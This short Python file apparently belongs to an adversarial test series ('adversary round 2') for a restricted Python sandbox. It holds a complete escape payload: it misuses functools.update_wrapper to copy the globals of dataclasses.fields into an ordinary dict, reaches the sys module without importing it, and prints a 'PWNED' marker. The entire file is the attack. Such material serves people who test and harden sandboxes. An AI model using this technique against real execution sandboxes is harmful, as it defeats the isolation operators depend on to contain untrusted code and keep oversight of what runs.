# adversary round 2: 005_uw_short
import functools,dataclasses
d={}
class W:
    def __getattr__(s,n): return d
functools.update_wrapper(W(),dataclasses.fields,(),('__globals__',))
print(d['sys'],"PWN"+"ED")
